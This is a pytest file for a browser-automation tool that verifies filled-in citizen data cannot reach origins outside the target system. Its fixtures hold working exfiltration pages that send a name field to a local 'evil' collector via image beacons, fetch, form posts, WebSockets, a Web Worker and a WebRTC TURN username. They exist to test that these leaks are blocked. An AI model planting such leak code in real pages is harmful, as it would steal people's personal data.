"""A recipe can never send a citizen's data to an origin its system does not own."""

from __future__ import annotations

import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from clerkdesk.desk import CaseRequest
from clerkdesk.errors import Mark
from clerkdesk.recipe.driver import Condition, DriverContext, Locator
from clerkdesk.recipe.systems import System
from tests.support.local_site import QuietHandler, run_recipe, serve, write_system

pytestmark = pytest.mark.browser


class _Server:
    def __init__(self, page: str):
        self.hits: list[str] = []
        outer = self

        class H(QuietHandler):
            def do_GET(self) -> None:
                outer.hits.append(self.path)
                self.send_html(page if self.path == "/" else "ok")

            do_POST = do_GET

        self.httpd, self.url = serve(H)


@pytest.fixture
def servers() -> Iterator[tuple[_Server, _Server]]:
    evil = _Server("<p>collector</p>")
    page = f"""<html><body><label for=n>姓名</label><input id=n>
      <button id=leak onclick="
        new Image().src='{evil.url}/img?name='+encodeURIComponent(n.value);
        fetch('{evil.url}/fetch?name='+encodeURIComponent(n.value)).catch(()=>{{}});
        document.getElementById('f').submit();">发送</button>
      <form id=f method=post action="{evil.url}/form"><input type=hidden name=x value=1></form>
      <p>就绪</p></body></html>"""
    own = _Server(page)
    yield own, evil
    own.httpd.shutdown()
    evil.httpd.shutdown()


def test_requests_and_navigation_to_foreign_origins_are_stopped_and_reported(servers: Any, tmp_path: Path) -> None:
    from clerkdesk.drivers.web import PlaywrightDriver

    own, evil = servers
    system = System("own", "本系统", "web", Mark(tmp_path / "own.yaml", 1, 1), start_url=own.url + "/",
                    origins=(own.url,))
    reported: list[str] = []
    drv = PlaywrightDriver()
    drv.start(DriverContext(system=system, home=tmp_path, clerk="t", headless=True, on_violation=reported.append))
    try:
        drv.open(own.url + "/", 10)
        drv.wait_for(Condition(text="就绪"), 5)
        drv.fill(Locator(label="姓名"), "王小明", 5)
        drv.click(Locator(text="发送"), 5)
        import time

        time.sleep(0.5)  # give any leaked request time to arrive (this test proves a negative)
        assert not drv.where().startswith(evil.url)  # the form post did not navigate there
    finally:
        drv.close()
    assert evil.hits == []
    assert reported and set(reported) == {evil.url}
    assert own.hits[0] == "/"


def test_open_of_a_foreign_url_is_refused_by_lint_and_at_run_time(tmp_path: Path, desk: Any, web: Any,
                                                                  opts: Any, monkeypatch: Any) -> None:
    import shutil

    from clerkdesk.config import recipes_dir
    from clerkdesk.recipe.catalog import lint_paths

    folder = tmp_path / "recipes"
    shutil.copytree(recipes_dir(), folder)
    bad = folder / "hrss" / "leak.yaml"
    bad.write_text("recipe: hrss.leak\ntitle: 泄露\nsystem: hrss\nfields: {case.url: 地址}\nsteps:\n"
                   "  - open: http://127.0.0.1:9/collect\n", encoding="utf-8")
    errors = lint_paths([bad], folder)
    assert [str(e) for e in errors] == [
        f"{bad}:6:11: 'http://127.0.0.1:9/collect' is not on an origin of system hrss (http://127.0.0.1:8601): "
        "recipes may only send data to the system's own origins"]
    # a template can hide the address from lint: the engine stops it when the step runs
    bad.write_text("recipe: hrss.leak\ntitle: 泄露\nsystem: hrss\nfields: {case.url: 地址}\nsteps:\n"
                   "  - open: \"{{ case.url }}?name={{ person.name }}\"\n", encoding="utf-8")
    monkeypatch.setenv("CLERKDESK_RECIPES", str(folder))
    from clerkdesk.desk import Desk
    from clerkdesk.engine import events as ev
    from tests.support.clerks import SandboxClerk
    from tests.support.data import PERSON

    seen: list[Any] = []
    opts.on_event = seen.append
    d = Desk(desk.home)
    res = d.fill(CaseRequest("person", dict(PERSON), ["hrss.leak"], {"url": "http://127.0.0.1:9/collect"}), SandboxClerk(), opts)
    d.close()
    out = res.outcomes["hrss.leak"]
    assert out.status == "failed"
    assert "http://127.0.0.1:9 is not an origin of system hrss" in out.message
    assert PERSON["name"] not in out.message
    assert any(isinstance(e, ev.Blocked) and e.origin == "http://127.0.0.1:9" for e in seen)


# --- WebSockets, workers and WebRTC: channels that Playwright's request routing does not see ---------------

WS_MAGIC = "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"


class _Collector:
    """A foreign server that records every TCP connection made to it (and completes WebSocket handshakes)."""

    def __init__(self) -> None:
        import socket

        self.conns: list[bytes] = []
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                c, _ = self.sock.accept()
            except OSError:
                return
            threading.Thread(target=self._serve, args=(c,), daemon=True).start()

    def _serve(self, c: Any) -> None:
        c.settimeout(3)
        try:
            head = c.recv(4096)
            self.conns.append(head[:80])
            if b"Sec-WebSocket-Key" in head:
                c.sendall(_ws_accept(_ws_key(head)))
                c.recv(4096)  # whatever the page sends
        except OSError:
            pass
        finally:
            c.close()


def _ws_key(head: bytes) -> bytes:
    return next(ln.split(b":", 1)[1].strip() for ln in head.split(b"\r\n") if ln.lower().startswith(b"sec-websocket-key"))


def _ws_accept(key: bytes) -> bytes:
    import base64
    import hashlib

    acc = base64.b64encode(hashlib.sha1(key + WS_MAGIC.encode()).digest())
    return b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: " + acc + b"\r\n\r\n"


def _ws_frame(payload: bytes) -> bytes:
    assert len(payload) < 126
    return bytes([0x81, len(payload)]) + payload


def _ws_read_text(conn: Any) -> bytes:
    _, b1 = conn.recv(2)
    n = b1 & 0x7F
    mask = conn.recv(4)
    data = b""
    while len(data) < n:
        data += conn.recv(n - len(data))
    return bytes(x ^ mask[i % 4] for i, x in enumerate(data))


WS_PAGE = """<!doctype html><html><head><meta charset=utf-8><title>综合受理</title></head><body>
<label for=n>姓名</label><input id=n>
<button type=button onclick="leakPage()">页面连接</button>
<button type=button onclick="leakWorker()">后台连接</button>
<button type=button onclick="leakRtc()">通话</button>
<p id=own>连接中</p><p id=page></p><p id=worker></p><p id=rtc></p>
<script>
 const EVIL = '127.0.0.1:__EVIL__', FAR = '127.0.0.1:__FAR__';
 const own = new WebSocket('ws://' + location.host + '/ws');
 own.onopen = () => own.send('你好');
 own.onmessage = m => document.getElementById('own').textContent = '本系统回声：' + m.data;
 const say = (id, t) => document.getElementById(id).textContent = t;
 function leakPage() {
   const ws = new WebSocket('ws://' + EVIL + '/leak?name=' + encodeURIComponent(n.value));
   ws.onopen = () => ws.send(n.value);
   ws.onclose = () => say('page', '页面连接已结束');
 }
 function leakWorker() {
   const src = "const ws = new WebSocket('ws://" + FAR + "/leak-worker?name=' + encodeURIComponent(NAME));"
             + "ws.onopen = () => { ws.send(NAME); postMessage('open'); }; ws.onclose = () => postMessage('closed');";
   const w = new Worker(URL.createObjectURL(new Blob(['const NAME = ' + JSON.stringify(n.value) + ';' + src])));
   w.onmessage = m => say('worker', '后台连接已结束' + (m.data === 'open' ? '（已连通）' : ''));
 }
 function leakRtc() {
   const pc = new RTCPeerConnection({iceServers: [{urls: 'turn:' + FAR + '?transport=tcp',
                                                   username: n.value, credential: 'x'}], iceTransportPolicy: 'relay'});
   pc.createDataChannel('d');
   pc.onicegatheringstatechange = () => { if (pc.iceGatheringState === 'complete') say('rtc', '通话候选已收集'); };
   pc.createOffer().then(o => pc.setLocalDescription(o));
   setTimeout(() => say('rtc', '通话候选已收集'), 4000);
 }
</script></body></html>"""


class _OwnWithSocket:
    """The system's own server: the page above, and a WebSocket echo at /ws (so own WebSockets must keep working)."""

    def __init__(self, evil_port: int, far_port: int) -> None:
        page = WS_PAGE.replace("__EVIL__", str(evil_port)).replace("__FAR__", str(far_port)).encode()

        class H(QuietHandler):
            def do_GET(self) -> None:
                if self.headers.get("Upgrade", "").lower() == "websocket":
                    self.wfile.write(_ws_accept(self.headers["Sec-WebSocket-Key"].encode()))
                    self.wfile.flush()
                    got = _ws_read_text(self.connection)
                    self.wfile.write(_ws_frame(got))
                    self.wfile.flush()
                    self.close_connection = True
                    return
                self.send_html(page)

        self.httpd, self.url = serve(H)


WS_RECIPE = """recipe: local.sockets
title: 连接测试
system: local
steps:
  - open: /
  - expect: {text: 本系统回声：你好, message: 本系统的 WebSocket 应能正常使用}
  - fill: {label: 姓名, value: "{{ person.name }}"}
  - click: {text: 页面连接}
  - wait: {text: 页面连接已结束}
  - click: {text: 后台连接}
  - wait: {text: 后台连接已结束}
  - click: {text: 通话}
  - wait: {text: 通话候选已收集}
  - expect: {window: 综合受理}
"""


def test_websockets_workers_and_webrtc_cannot_reach_a_foreign_server(tmp_path: Path, desk: Any) -> None:
    """A page on an allowed origin tries a WebSocket, a worker's WebSocket and a WebRTC TURN server elsewhere:
    the foreign servers get no connection at all, the run reports the attempts (origin or host:port only),
    and the system's own WebSocket still works."""

    from clerkdesk.engine import events as ev

    evil, far = _Collector(), _Collector()  # far: reached only from a worker or WebRTC
    own = _OwnWithSocket(evil.port, far.port)
    try:
        seen: list[Any] = []
        folder = write_system(tmp_path / "recipes", "local", own.url)
        out, rid = run_recipe(desk, folder, "local", "sockets", WS_RECIPE, {"person": {"name": "王小明"}, "case": {}},
                              on_event=seen.append)
        assert out.status == "succeeded", out.message
        time.sleep(0.3)  # this test proves a negative: give a leaked connection time to arrive
        assert evil.conns == [] and far.conns == []
        blocked = {e.origin for e in seen if isinstance(e, ev.Blocked)}
        # the page's WebSocket is stopped by the WebSocket route; the worker's and WebRTC's by the egress proxy
        assert blocked == {f"ws://127.0.0.1:{evil.port}", f"127.0.0.1:{far.port}"}
        logged = [e for e in desk.store.runs.events(rid) if e["status"] == "blocked"]
        assert logged and all("王小明" not in str(e) for e in logged)
    finally:
        own.httpd.shutdown()
        evil.sock.close()
        far.sock.close()
